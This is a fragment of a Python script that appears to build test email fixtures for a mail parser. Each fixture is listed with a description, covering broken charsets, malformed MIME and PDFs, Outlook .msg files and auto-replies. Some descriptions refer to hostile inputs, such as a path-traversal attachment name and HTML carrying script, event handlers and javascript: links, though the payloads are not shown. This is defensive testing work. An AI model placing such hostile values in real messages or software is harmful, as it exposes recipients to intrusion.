    "broken_charset.eml": (
        "unknown charset label on UTF-8 text; 'us-ascii' HTML holding Windows-1252 quotes",
        broken_charset,
    ),
    "encoded_headers.eml": (
        "RFC 2047 subject split inside a character, Q-encoded From with a comma; filenames in "
        "RFC 2231, RFC 2231 continuations, RFC 2047 in quotes, raw UTF-8, name= only, a "
        "traversal name with a control character, no name at all",
        encoded_headers,
    ),
    "no_message_id.eml": ("no Message-ID header", no_message_id),
    "no_body.eml": ("headers only: no body, no Content-Type", no_body),
    "missing_boundary.eml": ("multipart without its closing boundary", missing_boundary),
    "wrong_boundary.eml": ("declared boundary never used; the parts use another", wrong_boundary),
    "bad_base64.eml": ("PDF whose base64 has a junk line and a cut-off end", bad_base64),
    "hostile_html.eml": (
        "HTML-only body: script, style overlay, event handlers, tracking pixel, javascript: "
        "and data: links, svg onload, base href, meta refresh, form, iframe, unclosed tags",
        hostile_html,
    ),
    "encrypted_pdf.eml": ("password-protected PDF attachment (RC4-128)", encrypted_pdf_sample),
    "corrupt_pdf.eml": (
        "a truncated, garbled PDF, and a 'letter.pdf' that is really HTML",
        corrupt_pdf,
    ),
    "forwarded.eml": (
        "message/rfc822 forward holding a PDF and, one level deeper, another message/rfc822",
        forwarded,
    ),
    "govqa_portal.eml": (
        "GovQA-style portal notice: reference W000123-030326, download link, "
        "Auto-Submitted: auto-generated and Precedence: bulk",
        govqa_portal,
    ),
    "outlook.msg": (
        "an Outlook .msg (OLE compound file): transport headers, plain and HTML body, a PDF",
        outlook_msg,
    ),
    "auto_reply.eml": (
        "Outlook out-of-office: Auto-Submitted, X-Autoreply, 'Automatic reply:' subject",
        auto_reply,
    ),
}


def build_samples() -> dict[str, bytes]:
    """Every sample's file name and bytes."""
    return {name: builder() for name, (_, builder) in SAMPLES.items()}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--check", action="store_true", help="only check the files are current")
    args = parser.parse_args(argv)
    stale = []
    for name, data in build_samples().items():
        path = HERE / name
        if path.exists() and path.read_bytes() == data:
            continue
        stale.append(name)
        if not args.check:
            path.write_bytes(data)
    if args.check and stale:
        print("out of date: " + ", ".join(stale), file=sys.stderr)
        return 1
    if not args.check:
        print(f"wrote {len(stale)} of {len(SAMPLES)} samples to {HERE}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
